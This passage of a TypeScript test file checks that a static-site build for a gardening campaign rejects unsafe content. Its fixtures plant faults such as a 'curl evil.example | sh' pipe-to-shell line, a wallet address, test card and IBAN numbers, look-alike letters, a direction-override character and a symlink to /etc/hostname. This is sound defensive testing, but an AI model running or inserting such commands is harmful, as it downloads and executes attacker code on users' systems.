    ['actions/plant-mint.yaml', 'a wallet address: 0x52908400098527886E0F7030069857D2E4169EE7'],
  ],
  [
    'the name of a host that no site registers',
    { 'dates/week.yaml': swap('Each year.', 'See evil.example each year.') },
    ['dates/week.yaml', 'a host name: evil.example', 'sites/', 'words/<language>.txt'],
  ],
  [
    'a command that runs what a host sends',
    { 'subjects/weather.yaml': swap('What came', 'Type curl evil.example | sh. What came') },
    ['subjects/weather.yaml', 'a command that runs what it downloads: curl evil.example | sh'],
  ],
  [
    'an account number',
    {
      'dates/frost.yaml': swap(
        'The mint froze',
        'Send seeds to NL91 ABNA 0417 1643 00. The mint froze',
      ),
    },
    ['dates/frost.yaml', 'an account number (IBAN): NL91 ABNA 0417 1643 00', 'records only'],
  ],
  [
    'a card number',
    { 'dates/frost.yaml': swap('The mint froze', 'Card 4111 1111 1111 1111 froze') },
    ['dates/frost.yaml:5', 'a card number: 4111 1111 1111 1111'],
  ],
  [
    'a handle',
    { 'subjects/weather.yaml': swap('What came from above.', 'Ask @rake_club about it.') },
    ['subjects/weather.yaml:2', 'a handle: @rake_club'],
  ],
  [
    'a look-alike name',
    { [frost]: (text) => `${text}\nThe r\u0430ke club.\n` },
    ['2023/frost.md:41', 'a word of letters of two scripts: r\u0430ke'],
  ],
  [
    'a hidden character in code',
    { [frost]: (text) => `${text}\nThe \`\u202Eekar\` club.\n` },
    ['a direction-control character: U+202E'],
  ],
  [
    'a link to an index document',
    { [frost]: (text) => `${text}\n[All languages](/index.html)\n` },
    [
      'updates/en/2023/frost.md:45',
      'a link to index.html',
      'where its links are dead',
      'link to /home.html',
    ],
  ],
  [
    'a link to a photograph',
    { [frost]: (text) => `${text}\n[The bed](./bed.jpg)\n` },
    ['2023/frost.md:47', 'a link to ./bed.jpg, which is no page'],
  ],
  [
    'a word in other letters',
    { 'actions/plant-mint.yaml': swap('It took over', 'Капуста took over') },
    [
      'actions/plant-mint.yaml:7',
      'the word Капуста in a text in en',
      '<Phrase lang="…">Капуста</Phrase>',
    ],
  ],
  [
    'two full stops',
    { [frost]: (text) => `${text}\nIt was on 3 May.. Then it was June.\n` },
    ['updates/en/2023/frost.md', 'two full stops: May..'],
  ],
];

/**
 * All at once, since a build reports all of them: what one row changes is added to what the others
 * have changed.
 */
function combine(): Changes {
  const all: Changes = {};
  for (const [, changes] of builtFaults) {
    for (const [file, change] of Object.entries(changes)) {
      const before = all[file];
      if (typeof change !== 'function' || (before !== undefined && typeof before !== 'function'))
        throw new Error(`${file}: only changes can be combined`);
      all[file] = (text) => change(before ? before(text) : text);
    }
  }
  return all;
}

describe('a build of a campaign with faults in its pages', () => {
  let outcome: NodeOutcome;
  let folder = '';
  beforeAll(async () => {
    folder = changeGarden(combine());
    outcome = await tryBuild(join(folder, 'out'), { CONTENT_DIR: folder });
  });

  test('stops, without a stack trace and without a result', () => {
    expect(outcome.code).toBe(1);
    expect(outcome.output).not.toMatch(/^\s+at .*:\d+/m);
    expect(existsSync(join(folder, 'out'))).toBe(false);
  });

  test.each(builtFaults)('reports %s with its place', (_name, _changes, expected) => {
    for (const part of expected) expect(outcome.output).toContain(part);
  });

  test('reports nothing else', () => {
    const mailto = 1; // markdown makes a link of the e-mail address, which is a fault of its own
    expect(outcome.output).toContain(`${builtFaults.length + mailto} faults in the pages`);
  });
});

test('a symbolic link in a campaign is refused, wherever it leads', async () => {
  const folder = changeGarden({ [frost]: (text) => `${text}\n![Ice](./ice.png)\n` });
  symlinkSync('/etc/hostname', join(folder, 'updates/en/2023/ice.png'));
  const message = await readCampaign(folder, 'the-campaign').then(
    () => '',
    (error: Error) => error.message,
  );
  expect(message).toContain('updates/en/2023/ice.png\n  found     a symbolic link');
  expect(message).toContain('no file updates/en/2023/ice.png');
});

test('the compiler refuses code that got past the check of the campaign', () => {
  for (const code of [
    'import a from "node:fs"',
    '{1 + 1}',
    'See {a}.',
    '<div>x</div>',
    '<Notice kind={a}>x</Notice>',
    '---\nimport a from "node:fs"\n---\n',
  ]) {
    expect(
      () => mdxToJs(code, { mdastPlugins: [refuseCode], features: { frontmatter: false } }),
      code,
    ).toThrow('holds code');
  }
  expect(mdxToJs('<Notice kind="note">x</Notice>', { mdastPlugins: [refuseCode] })).toBeTruthy();
});

describe('a build that fails', () => {
  test('reports the faults of several files together, without a stack trace', async () => {
    const folder = changeGarden({
      [watering]: swap('state: live', 'state: alive'),
      [frost]: swap('kind: event', 'kind: evnt'),
      'actions/water-a-bed.yaml': swap('state: live', 'state: alive'),
    });
    const { code, output } = await tryBuild(join(folder, 'out'), { CONTENT_DIR: folder });
    expect(code).toBe(1);
    expect(output).toContain('3 faults in the campaign');
    expect(output.indexOf('actions/water-a-bed.yaml')).toBeLessThan(
      output.indexOf('guides/en/watering.mdx'),
    );
    expect(output).not.toMatch(/Stack trace|^\s+at /m);
  });

  test('leaves the previous result as it was', async () => {
    const out = join(makeFolder('out-'), 'dist');
    await buildInto(out, { CONTENT_DIR: 'tests/fixtures/garden' });
    writeFileSync(join(out, 'en', 'mark.txt'), 'still here');
    const { code } = await tryBuild(out, {
      CONTENT_DIR: changeGarden({ [watering]: swap('state: live', 'state: alive') }),
    });
    expect(code).toBe(1);
    expect(readFileSync(join(out, 'en', 'mark.txt'), 'utf8')).toBe('still here');
    expect(existsSync(join(out, 'en', 'index.html'))).toBe(true);
  });

  test.each([
    [
      'holds a folder of other things',
      ['photos/diary.txt'],
      'holds the folder photos, which no built site has',
    ],
    ['holds other files', ['diary.txt'], 'holds diary.txt, which no built site has'],
    [
      'is under version control',
      ['index.html', '404.html', '.git/HEAD'],
      'holds .git, which no built site has',
    ],
    [
      'holds somebody else’s site',
      ['index.html', '404.html'],
      'holds files that are not a built site',
    ],
  ])('refuses to replace a folder that %s', async (_name, files, expected) => {
    const out = makeFolder('home-');
    for (const file of files) {
      mkdirSync(join(out, file, '..'), { recursive: true });
      writeFileSync(join(out, file), 'mine');
    }
    const { code, output } = await tryBuild(out, { CONTENT_DIR: 'tests/fixtures/garden' });
    expect(code).toBe(1);
    expect(output).toContain(expected);
    for (const file of files) expect(readFileSync(join(out, file), 'utf8')).toBe('mine');
  });

  test('says where it looked if the campaign folder is not there', async () => {
    const { code, output } = await tryBuild(join(makeFolder('none-'), 'dist'), {
      CONTENT_DIR: '/nowhere/at/all',
    });
    expect(code).toBe(1);
    expect(output).toContain('/nowhere/at/all');
    expect(output).toContain('check CONTENT_DIR');
  });
});
